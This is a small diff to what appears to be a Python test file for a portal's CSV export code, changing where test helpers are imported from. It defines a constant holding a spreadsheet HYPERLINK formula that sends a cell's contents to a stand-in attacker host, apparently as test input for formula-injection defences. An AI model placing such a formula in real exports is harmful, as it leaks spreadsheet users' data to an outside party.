@@ -8,12 +8,11 @@ import io
 from collections.abc import Callable
 from pathlib import Path
 
-from safetykit import improvement, run
-
 from cir_portal.core.config import Project
 from cir_portal.core.pipeline import load_register
 from cir_portal.views.context import Site
 from cir_portal.views.exports import csv_cell, neutral, register_csv
+from cirtest.safety import improvement, run
 
 MakeProject = Callable[..., Path]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
